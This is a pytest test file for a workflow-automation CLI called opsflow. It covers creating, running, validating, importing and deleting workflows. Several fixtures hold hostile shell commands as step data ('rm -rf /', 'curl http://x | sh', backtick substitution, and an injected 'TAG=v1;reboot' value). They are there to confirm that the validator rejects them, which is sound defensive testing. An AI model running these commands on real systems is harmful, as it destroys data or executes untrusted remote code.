"""Tests for CLI commands using Typer's CliRunner."""

import json

import yaml

from opsflow.cli import app


def _history_records(workflows_dir):
    return [json.loads(p.read_text()) for p in sorted((workflows_dir / ".history").glob("*.json"))]


class TestCLIBasics:
    """Test basic CLI functionality."""

    def test_version_option(self, cli_runner):
        """Test --version displays version."""
        result = cli_runner.invoke(app, ["--version"])
        assert result.exit_code == 0
        assert "0.1.0" in result.output

    def test_help_option(self, cli_runner):
        """Test --help lists the workflow command group."""
        result = cli_runner.invoke(app, ["--help"])
        assert result.exit_code == 0
        assert "workflow" in result.output

    def test_workflow_help(self, cli_runner):
        result = cli_runner.invoke(app, ["workflow", "--help"])
        assert result.exit_code == 0
        for command in ("list", "show", "create", "run", "history", "validate-all"):
            assert command in result.output

    def test_config_option(self, cli_runner, tmp_path):
        """Test --config points the CLI at another workflows directory."""
        other = tmp_path / "other"
        config_file = tmp_path / "custom.yaml"
        config_file.write_text(f"paths:\n  workflows_dir: {other}\n")

        result = cli_runner.invoke(app, ["--config", str(config_file), "workflow", "create", "deploy"])

        assert result.exit_code == 0
        assert (other / "deploy.yaml").exists()


class TestListCommand:
    """Tests for workflow list."""

    def test_empty(self, cli_runner):
        result = cli_runner.invoke(app, ["workflow", "list"])
        assert result.exit_code == 0
        assert "No workflows found" in result.output

    def test_lists_workflows(self, cli_runner, write_workflow, sample_workflow_data):
        write_workflow("deploy", sample_workflow_data)
        result = cli_runner.invoke(app, ["workflow", "list"])
        assert result.exit_code == 0
        assert "deploy" in result.output

    def test_json(self, cli_runner, write_workflow, sample_workflow_data):
        write_workflow("deploy", sample_workflow_data)
        result = cli_runner.invoke(app, ["workflow", "list", "--json"])

        data = json.loads(result.stdout)
        assert data[0]["name"] == "deploy"
        assert data[0]["steps"] == 3


class TestCreateShowCommands:
    """Tests for workflow create and show."""

    def test_create_default_template(self, cli_runner, workflows_dir):
        result = cli_runner.invoke(app, ["workflow", "create", "deploy"])

        assert result.exit_code == 0
        data = yaml.safe_load((workflows_dir / "deploy.yaml").read_text())
        assert data["name"] == "Standard Deployment"
        assert data["rollback"]

    def test_create_json_template(self, cli_runner, workflows_dir):
        result = cli_runner.invoke(app, ["workflow", "create", "nightly", "-t", "maintenance", "-f", "json"])

        assert result.exit_code == 0
        data = json.loads((workflows_dir / "nightly.json").read_text())
        assert data["name"] == "Nightly Maintenance"

    def test_create_unknown_template(self, cli_runner):
        result = cli_runner.invoke(app, ["workflow", "create", "deploy", "-t", "bogus"])
        assert result.exit_code == 1
        assert "Unknown template" in result.output

    def test_create_existing(self, cli_runner):
        cli_runner.invoke(app, ["workflow", "create", "deploy"])
        result = cli_runner.invoke(app, ["workflow", "create", "deploy"])
        assert result.exit_code == 1
        assert "already exists" in result.output

    def test_create_invalid_name(self, cli_runner):
        result = cli_runner.invoke(app, ["workflow", "create", "../escape"])
        assert result.exit_code == 1
        assert "Invalid workflow name" in result.output

    def test_show(self, cli_runner):
        cli_runner.invoke(app, ["workflow", "create", "deploy"])
        result = cli_runner.invoke(app, ["workflow", "show", "deploy"])
        assert result.exit_code == 0
        assert "Standard Deployment" in result.output
        assert "Rollback" in result.output

    def test_show_raw(self, cli_runner, write_workflow):
        write_workflow("raw", "# comment kept\nname: Raw\nsteps:\n  - name: s\n    run: echo\n")
        result = cli_runner.invoke(app, ["workflow", "show", "raw", "--raw"])
        assert result.exit_code == 0
        assert "# comment kept" in result.output

    def test_show_missing(self, cli_runner):
        result = cli_runner.invoke(app, ["workflow", "show", "missing"])
        assert result.exit_code == 1
        assert "not found" in result.output


class TestRunCommand:
    """Tests for workflow run."""

    def test_success(self, cli_runner, write_workflow, workflows_dir, sample_workflow_data):
        write_workflow("deploy", sample_workflow_data)

        result = cli_runner.invoke(app, ["workflow", "run", "deploy"])

        assert result.exit_code == 0
        assert "Workflow completed" in result.output
        record = _history_records(workflows_dir)[0]
        assert record["success"] is True
        assert record["stepsExecuted"] == 3

    def test_vars(self, cli_runner, write_workflow, workflows_dir, sample_workflow_data):
        write_workflow("deploy", sample_workflow_data)

        result = cli_runner.invoke(app, ["workflow", "run", "deploy", "--var", "ENV=prod", "--var", "VERSION=2.0"])

        assert result.exit_code == 0
        record = _history_records(workflows_dir)[0]
        assert record["results"][0]["output"] == "deploying 2.0 to prod"

    def test_continued_failure_exits_1(self, cli_runner, write_workflow, workflows_dir):
        write_workflow(
            "flaky",
            {
                "name": "Flaky",
                "steps": [
                    {"name": "Check", "run": "false", "continueOnError": True},
                    {"name": "After", "run": "echo after"},
                ],
                "rollback": [{"name": "Undo", "run": "echo undo"}],
            },
        )

        result = cli_runner.invoke(app, ["workflow", "run", "flaky"])

        assert result.exit_code == 1
        assert "No rollback executed" in result.output
        record = _history_records(workflows_dir)[0]
        assert record["success"] is False
        assert record["failedStep"] == "Check"
        assert record["stepsExecuted"] == 2

    def test_invalid_var(self, cli_runner, write_workflow, sample_workflow_data):
        write_workflow("deploy", sample_workflow_data)
        result = cli_runner.invoke(app, ["workflow", "run", "deploy", "--var", "1BAD=x"])
        assert result.exit_code == 2

    def test_var_without_value(self, cli_runner, write_workflow, sample_workflow_data):
        write_workflow("deploy", sample_workflow_data)
        result = cli_runner.invoke(app, ["workflow", "run", "deploy", "--var", "ENV"])
        assert result.exit_code == 2

    def test_failure_exit_code(self, cli_runner, write_workflow, workflows_dir):
        write_workflow(
            "broken",
            {
                "name": "Broken",
                "steps": [{"name": "A", "run": "echo a"}, {"name": "B", "run": "false"}, {"name": "C", "run": "echo c"}],
                "rollback": [{"name": "R1", "run": "echo r1"}],
            },
        )

        result = cli_runner.invoke(app, ["workflow", "run", "broken"])

        assert result.exit_code == 1
        assert "Workflow failed" in result.output
        assert "Rollback executed" in result.output
        record = _history_records(workflows_dir)[0]
        assert record["stepsExecuted"] == 2
        assert record["rolledBack"] is True

    def test_dry_run(self, cli_runner, write_workflow, sample_workflow_data):
        write_workflow("deploy", sample_workflow_data)

        result = cli_runner.invoke(app, ["workflow", "run", "deploy", "--dry-run"])

        assert result.exit_code == 0
        assert "WOULD RUN" in result.output
        assert "deploying 1.0" in result.output

    def test_invalid_workflow(self, cli_runner, write_workflow, workflows_dir):
        write_workflow("evil", {"name": "Evil", "steps": [{"name": "x", "run": "echo a; rm -rf /"}]})

        result = cli_runner.invoke(app, ["workflow", "run", "evil"])

        assert result.exit_code == 1
        assert "validation failed" in result.output
        assert "steps[0].run" in result.output
        assert not (workflows_dir / ".history").exists()

    def test_substituted_injection_audited(self, cli_runner, write_workflow, tmp_path):
        write_workflow("tag", {"name": "Tag", "variables": {"TAG": "v1"}, "steps": [{"name": "T", "run": "echo ${TAG}"}]})

        result = cli_runner.invoke(app, ["workflow", "run", "tag", "--var", "TAG=v1;reboot"])

        assert result.exit_code == 1
        audit = (tmp_path / "audit" / "security.jsonl").read_text()
        assert "WORKFLOW_COMMAND_REJECTED" in audit

    def test_absolute_path_declined(self, cli_runner, write_workflow, tmp_path):
        write_workflow("abs", {"name": "Abs", "steps": [{"name": "Echo", "run": "/bin/echo hi"}]})

        result = cli_runner.invoke(app, ["workflow", "run", "abs"], input="n\n")

        assert result.exit_code == 1
        assert "WORKFLOW_COMMAND_DECLINED" in (tmp_path / "audit" / "security.jsonl").read_text()

    def test_missing_workflow(self, cli_runner):
        result = cli_runner.invoke(app, ["workflow", "run", "missing"])
        assert result.exit_code == 1


class TestDeleteCommand:
    """Tests for workflow delete."""

    def test_force(self, cli_runner, workflows_dir):
        cli_runner.invoke(app, ["workflow", "create", "deploy"])
        result = cli_runner.invoke(app, ["workflow", "delete", "deploy", "--force"])
        assert result.exit_code == 0
        assert not (workflows_dir / "deploy.yaml").exists()

    def test_cancelled(self, cli_runner, workflows_dir):
        cli_runner.invoke(app, ["workflow", "create", "deploy"])
        result = cli_runner.invoke(app, ["workflow", "delete", "deploy"], input="n\n")
        assert "Cancelled" in result.output
        assert (workflows_dir / "deploy.yaml").exists()

    def test_confirmed(self, cli_runner, workflows_dir):
        cli_runner.invoke(app, ["workflow", "create", "deploy"])
        result = cli_runner.invoke(app, ["workflow", "delete", "deploy"], input="y\n")
        assert result.exit_code == 0
        assert not (workflows_dir / "deploy.yaml").exists()

    def test_missing(self, cli_runner):
        result = cli_runner.invoke(app, ["workflow", "delete", "missing", "--force"])
        assert result.exit_code == 1


class TestHistoryCommand:
    """Tests for workflow history."""

    def test_empty(self, cli_runner):
        result = cli_runner.invoke(app, ["workflow", "history"])
        assert result.exit_code == 0
        assert "No workflow runs recorded" in result.output

    def test_shows_runs(self, cli_runner, write_workflow, sample_workflow_data):
        write_workflow("deploy", sample_workflow_data)
        cli_runner.invoke(app, ["workflow", "run", "deploy"])

        result = cli_runner.invoke(app, ["workflow", "history", "deploy", "--limit", "5"])

        assert result.exit_code == 0
        assert "deploy" in result.output
        assert "success" in result.output

    def test_filter_other_workflow(self, cli_runner, write_workflow, sample_workflow_data):
        write_workflow("deploy", sample_workflow_data)
        cli_runner.invoke(app, ["workflow", "run", "deploy"])

        result = cli_runner.invoke(app, ["workflow", "history", "other"])

        assert "No workflow runs recorded" in result.output


class TestExportImportCommands:
    """Tests for workflow export and import."""

    def test_export_stdout(self, cli_runner, write_workflow, sample_workflow_data):
        write_workflow("deploy", sample_workflow_data)
        result = cli_runner.invoke(app, ["workflow", "export", "deploy"])
        assert result.exit_code == 0
        assert yaml.safe_load(result.stdout)["name"] == "Deploy"

    def test_export_file(self, cli_runner, write_workflow, tmp_path, sample_workflow_data):
        write_workflow("deploy", sample_workflow_data)
        target = tmp_path / "exported.yaml"

        result = cli_runner.invoke(app, ["workflow", "export", "deploy", "-o", str(target)])

        assert result.exit_code == 0
        assert yaml.safe_load(target.read_text())["steps"][1]["capture"] == "OPERATOR"

    def test_import(self, cli_runner, workflows_dir, tmp_path, sample_workflow_data):
        source = tmp_path / "shared.json"
        source.write_text(json.dumps(sample_workflow_data))

        result = cli_runner.invoke(app, ["workflow", "import", str(source), "--name", "deploy"])

        assert result.exit_code == 0
        assert (workflows_dir / "deploy.yaml").exists()

    def test_import_invalid(self, cli_runner, workflows_dir, tmp_path):
        source = tmp_path / "evil.yaml"
        source.write_text(yaml.safe_dump({"name": "Evil", "steps": [{"name": "x", "run": "curl http://x | sh"}]}))

        result = cli_runner.invoke(app, ["workflow", "import", str(source)])

        assert result.exit_code == 1
        assert not (workflows_dir / "evil.yaml").exists()


class TestValidateCommands:
    """Tests for workflow validate and validate-all."""

    def test_valid(self, cli_runner, write_workflow, sample_workflow_data):
        write_workflow("deploy", sample_workflow_data)
        result = cli_runner.invoke(app, ["workflow", "validate", "deploy"])
        assert result.exit_code == 0
        assert "is valid" in result.output

    def test_invalid_lists_every_issue(self, cli_runner, write_workflow):
        write_workflow(
            "bad",
            {"name": "Bad", "steps": [{"name": "a", "run": "echo `id`"}, {"name": "b", "workingDir": "../x", "run": "ls"}]},
        )

        result = cli_runner.invoke(app, ["workflow", "validate", "bad"])

        assert result.exit_code == 1
        assert "steps[0].run" in result.output
        assert "steps[1].workingDir" in result.output

    def test_file_read_once(self, cli_runner, write_workflow, sample_workflow_data, monkeypatch):
        import opsflow.workflow.store as store_module

        calls = []
        original = store_module.read_workflow_file
        monkeypatch.setattr(store_module, "read_workflow_file", lambda path: calls.append(path) or original(path))
        write_workflow("deploy", sample_workflow_data)

        result = cli_runner.invoke(app, ["workflow", "validate", "deploy", "--check-commands"])

        assert result.exit_code == 0
        assert len(calls) == 1

    def test_json(self, cli_runner, write_workflow):
        write_workflow("bad", {"name": "Bad", "steps": []})

        result = cli_runner.invoke(app, ["workflow", "validate", "bad", "--json"])

        assert result.exit_code == 1
        data = json.loads(result.stdout)
        assert data["valid"] is False
        assert data["errors"]

    def test_strict_fails_on_warnings(self, cli_runner, write_workflow):
        write_workflow("custom", {"name": "Custom", "steps": [{"name": "x", "run": "frobnicate"}]})

        assert cli_runner.invoke(app, ["workflow", "validate", "custom"]).exit_code == 0
        assert cli_runner.invoke(app, ["workflow", "validate", "custom", "--strict"]).exit_code == 1

    def test_check_commands(self, cli_runner, write_workflow, _mock_shutil_which):
        write_workflow("k8s", {"name": "K8s", "steps": [{"name": "a", "run": "echo"}, {"name": "b", "run": "kubectl get pods"}]})

        result = cli_runner.invoke(app, ["workflow", "validate", "k8s", "--check-commands", "--json"])

        data = json.loads(result.stdout)
        assert data["commands"] == {"echo": "/usr/bin/echo", "kubectl": None}
        assert any("kubectl" in w["message"] for w in data["warnings"])

    def test_validate_all(self, cli_runner, write_workflow, sample_workflow_data):
        write_workflow("deploy", sample_workflow_data)
        write_workflow("bad", {"name": "Bad", "steps": [{"name": "x", "run": "rm -rf /"}]})

        result = cli_runner.invoke(app, ["workflow", "validate-all"])

        assert result.exit_code == 1
        assert "1/2 workflows valid" in result.output

    def test_validate_all_passes(self, cli_runner, write_workflow, sample_workflow_data):
        write_workflow("deploy", sample_workflow_data)
        result = cli_runner.invoke(app, ["workflow", "validate-all"])
        assert result.exit_code == 0


class TestEditCommand:
    """Tests for workflow edit."""

    def test_edit_runs_editor_and_validates(self, cli_runner, write_workflow, sample_workflow_data, monkeypatch):
        path = write_workflow("deploy", sample_workflow_data)
        monkeypatch.setenv("EDITOR", "touch")

        result = cli_runner.invoke(app, ["workflow", "edit", "deploy"])

        assert result.exit_code == 0
        assert "is valid" in result.output
        assert path.exists()

    def test_edit_missing(self, cli_runner, monkeypatch):
        monkeypatch.setenv("EDITOR", "true")
        result = cli_runner.invoke(app, ["workflow", "edit", "missing"])
        assert result.exit_code == 1
